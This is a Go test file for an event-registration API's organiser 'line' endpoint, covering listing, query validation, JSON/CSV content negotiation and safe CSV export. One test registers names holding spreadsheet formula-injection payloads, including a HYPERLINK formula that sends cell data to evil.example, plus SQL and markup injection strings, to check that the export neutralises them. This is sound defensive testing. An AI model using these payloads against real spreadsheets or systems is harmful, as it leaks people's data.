package httpapi_test

import (
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/lastseat/lastseat/internal/sheet"
)

type entry struct {
	Ticket       int64
	Kind, Status string
	Reason       *string
	AcceptedAt   time.Time  `json:"accepted_at"`
	DecidedAt    *time.Time `json:"decided_at"`
	ChangedAt    *time.Time `json:"changed_at"`
	Name, Email  *string
	Target       *int64
	ByOrganiser  bool `json:"by_organiser"`
	Change       map[string]*int
}

// line returns the line of a run, as an organiser.
func (c *client) line(run, query string) []entry {
	c.t.Helper()
	a := c.organise(http.MethodGet, "/v1/runs/"+run+"/line"+query, "")
	a.expect(http.StatusOK)
	var line struct {
		Run     string
		Entries []entry
	}
	if a.decode(&line); line.Run != run || line.Entries == nil {
		c.t.Errorf("got %s", a.body)
	}
	return line.Entries
}

func TestLine_shows_everything_that_was_asked_for(t *testing.T) {
	t.Parallel()
	s := start(t, place{})
	s.addRun("go-1", seats(1), withList(seats(1)))
	if got := s.line("go-1", ""); len(got) != 0 {
		t.Errorf("an empty line is %+v", got)
	}
	crowd := s.crowd("go-1", 3)
	s.settle()
	s.cancel(crowd[0]).expect(http.StatusAccepted)
	s.resize("go-1", `{"capacity": null, "waitlist_capacity": 4}`)
	s.resize("go-1", `{"waitlist_capacity": null}`)
	s.organise(http.MethodDelete, "/v1/runs/go-1/registrations/2", "").expect(http.StatusAccepted)
	s.organise(http.MethodPost, "/v1/runs/go-1/close-waitlist", "").expect(http.StatusAccepted)
	s.organise(http.MethodPost, "/v1/runs/go-1/close-waitlist", "").expect(http.StatusAccepted)
	s.settle()
	s.organise(http.MethodPost, "/v1/runs/go-1/call-off", "").expect(http.StatusAccepted)

	show := func(e entry) string {
		text := fmt.Sprintf("%d %s %s", e.Ticket, e.Kind, e.Status)
		if e.Reason != nil {
			text += " " + *e.Reason
		}
		if e.Email != nil {
			text += " " + *e.Name + " " + *e.Email
		}
		if e.Target != nil {
			text += fmt.Sprintf(" of %d", *e.Target)
		}
		for name, limit := range e.Change {
			if limit == nil {
				limit = seats(-1)
			}
			text += fmt.Sprintf(" %s=%d", name[:1], *limit)
		}
		for name, is := range map[string]bool{" by organiser": e.ByOrganiser, " decided": e.DecidedAt != nil} {
			if is {
				text += name
			}
		}
		if e.ChangedAt != nil {
			text += " changed"
		}
		return text
	}
	want := []string{
		"1 register cancelled A Person p0@example.org decided changed",
		"2 register cancelled removed A Person p1@example.org decided changed",
		"3 register rejected full A Person p2@example.org decided",
		"4 cancel done of 1 decided",
		"5 resize done c=-1 w=4 by organiser decided",
		"6 resize done w=-1 by organiser decided",
		"7 cancel done of 2 by organiser decided",
		"8 close_waitlist done by organiser decided",
		"9 close_waitlist done no_effect by organiser decided",
		"10 call_off queued by organiser",
	}
	sorted := func(text string) string { // maps come in any order
		words := strings.Fields(text)
		for i := range words {
			for j := range i {
				if words[i] < words[j] {
					words[i], words[j] = words[j], words[i]
				}
			}
		}
		return strings.Join(words, " ")
	}
	got := s.line("go-1", "")
	if len(got) != len(want) {
		t.Fatalf("got %d entries, want %d", len(got), len(want))
	}
	for i, e := range got {
		if sorted(show(e)) != sorted(want[i]) {
			t.Errorf("got %s, want %s", show(e), want[i])
		}
		if e.AcceptedAt.IsZero() || i > 0 && e.AcceptedAt.Before(got[i-1].AcceptedAt) {
			t.Errorf("ticket %d was accepted at %v", e.Ticket, e.AcceptedAt)
		}
	}

	t.Run("after a ticket", func(t *testing.T) {
		for after, first := range map[string]int64{"0": 1, "1": 2, "9": 10, "10": 0, "999999": 0} {
			entries := s.line("go-1", "?after="+after)
			if first == 0 != (len(entries) == 0) || first != 0 && entries[0].Ticket != first {
				t.Errorf("after %s: %+v", after, entries)
			}
		}
		for query, field := range map[string]string{"?after=-1": "after", "?after=x": "after", "?after=": "after", "?format=xml": "format", "?format=": "format", "?format=CSV": "format"} {
			c := organising(http.MethodGet, "/v1/runs/go-1/line"+query, "")
			c.bad = true
			s.do(c).expectProblem(http.StatusUnprocessableEntity, "invalid", field)
		}
	})
	t.Run("HEAD", func(t *testing.T) {
		for query, media := range map[string]string{"": "application/json; charset=utf-8", "?format=csv": "text/csv; charset=utf-8"} {
			a := s.organise(http.MethodHead, "/v1/runs/go-1/line"+query, "")
			a.expect(http.StatusOK)
			if got := a.header.Get("Content-Type"); got != media || len(a.body) != 0 || (query != "") != (a.header.Get("Content-Disposition") != "") {
				t.Errorf("got %v %q", a.header, a.body)
			}
		}
		s.organise(http.MethodHead, "/v1/runs/nowhere/line", "").expect(http.StatusNotFound)
	})
	t.Run("of a run that does not exist is a problem without a file name", func(t *testing.T) {
		a := s.organise(http.MethodGet, "/v1/runs/nowhere/line?format=csv", "")
		a.expectProblem(http.StatusNotFound, "not_found", "")
	})
}

func TestLine_in_the_form_that_is_asked_for(t *testing.T) {
	t.Parallel()
	s := start(t, place{})
	s.addRun("go-1", nil)
	s.register("go-1", ada, adaEmail)
	for _, test := range []struct{ accept, query, media string }{
		{"", "", "application/json"},
		{"*/*", "", "application/json"},
		{"application/json", "", "application/json"},
		{"text/html,application/xhtml+xml,*/*;q=0.8", "", "application/json"},
		{"application/json, text/csv", "", "application/json"},
		{"text/csv", "", "text/csv"},
		{"text/csv; charset=utf-8", "", "text/csv"},
		{"text/csv, */*;q=0.1", "", "text/csv"},
		{"image/png", "", "application/json"},
		{"text/csv", "?format=json", "application/json"},
		{"application/json", "?format=csv", "text/csv"},
	} {
		c := organising(http.MethodGet, "/v1/runs/go-1/line"+test.query, "")
		c.header.Set("Accept", test.accept)
		a := s.do(c)
		a.expect(http.StatusOK)
		if got := a.header.Get("Content-Type"); got != test.media+"; charset=utf-8" {
			t.Errorf("%s %s: got %s, want %s", test.accept, test.query, got, test.media)
		}
		if got := a.header.Get("Cache-Control"); got != "no-store" {
			t.Errorf("Cache-Control is %s", got)
		}
	}
}

func TestLine_of_people_with_hostile_names(t *testing.T) {
	t.Parallel()
	s := start(t, place{})
	s.addRun("go-1", seats(3), withList(seats(1)))
	people := []struct{ name, email string }{
		{"=1+1", "=cmd@example.org"},
		{"＝1+1", "1e5@example.org"},
		{"Eva;=1+1;", "eva@example.org"},
		{"007", "007@example.org"},
		{"+44 (0)", "+x@example.org"},
		{"-2", "-x@example.org"},
		{"@SUM(A1)", "at@example.org"},
		{`=HYPERLINK("http://evil.example?x="&A1,"click, me")`, "link@example.org"},
		{`Robert "Bobby"; DROP TABLE`, "bobby@example.org"},
		{`a,b;c|d`, "comma@example.org"},
		{`</script><b>&amp;`, "markup@example.org"},
		{"👩‍👩‍👧 𝒜", "emoji@example.org"},
		{"עדה לאבלייס", "rtl@example.org"},
		{`"`, "quote@example.org"},
		{`\`, "backslash@example.org"},
		{"'=x", "'x@example.org"},
		{"''=1+1", "x@example.org"},
	}
	for _, p := range people {
		s.register("go-1", p.name, p.email)
	}
	s.settle()
	s.resize("go-1", `{"capacity": null, "waitlist_capacity": 2}`)
	for i, e := range s.line("go-1", "")[:len(people)] {
		if *e.Name != people[i].name || *e.Email != people[i].email {
			t.Errorf("got %q %q, want %+v", *e.Name, *e.Email, people[i])
		}
	}

	a := s.organise(http.MethodGet, "/v1/runs/go-1/line?format=csv", "")
	a.expect(http.StatusOK)
	if got := a.header.Get("Content-Disposition"); got != `attachment; filename="go-1-line.csv"` {
		t.Errorf("Content-Disposition is %s", got)
	}
	text, marked := strings.CutPrefix(string(a.body), "\ufeff")
	if !marked || strings.Contains(text, "\ufeff") {
		t.Error("there is not one byte order mark, at the start")
	}
	if strings.Count(text, "\n") != strings.Count(text, "\r\n") || strings.Count(text, "\r\n") != len(people)+2 || !strings.HasSuffix(text, "\r\n") {
		t.Errorf("the lines do not end as they must:\n%q", text)
	}
	for _, cell := range []string{`,'=1+1,`, `,"Eva;'=1+1;",`, ",'＝1+1,", ",'007,", ",007@example.org,", ",''=x,"} {
		if !strings.Contains(text, cell) {
			t.Errorf("%s is missing in\n%s", cell, text)
		}
	}
	r, err := sheet.NewReader(strings.NewReader(string(a.body)))
	if err != nil {
		t.Fatal(err)
	}
	var rows [][]string
	for range len(people) + 2 {
		row, err := r.Read()
		if err != nil {
			t.Fatal(err)
		}
		rows = append(rows, row)
	}
	if got := strings.Join(rows[0], " "); got != "ticket kind status reason accepted_at decided_at changed_at name email target by_organiser change" {
		t.Errorf("the header is %s", got)
	}
	for i, p := range people {
		row := rows[i+1]
		if row[0] != fmt.Sprint(i+1) || row[7] != p.name || row[8] != p.email || row[10] != "false" || row[11] != "" {
			t.Errorf("got %q, want %+v", row, p)
		}
		if _, err := time.Parse(time.RFC3339Nano, row[4]); err != nil {
			t.Error(err)
		}
	}
	last := rows[len(rows)-1]
	if last[1] != "resize" || last[2] != "done" || last[7] != "" || last[10] != "true" || last[11] != `{"capacity":null,"waitlist_capacity":2}` {
		t.Errorf("the last row is %q", last)
	}
}
